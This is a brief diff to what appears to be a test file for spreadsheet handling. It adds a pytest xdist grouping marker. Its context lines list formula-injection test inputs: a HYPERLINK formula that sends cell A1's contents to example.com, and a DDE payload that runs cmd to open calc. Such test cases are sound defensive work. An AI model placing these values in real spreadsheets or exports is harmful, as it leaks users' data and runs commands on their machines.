@@ -15,6 +15,8 @@ from domain.views import Line
 from templates.notes.text import as_runs, text_of
 from tests.connectors.excel import building
 
+pytestmark = pytest.mark.xdist_group("typed words")  # its practice is made once, in one process
+
 CLASSES = {
     "formula": '=HYPERLINK("http://example.com/?"&A1,"x")',
     "plus": "+1+cmd|' /C calc'!A0",
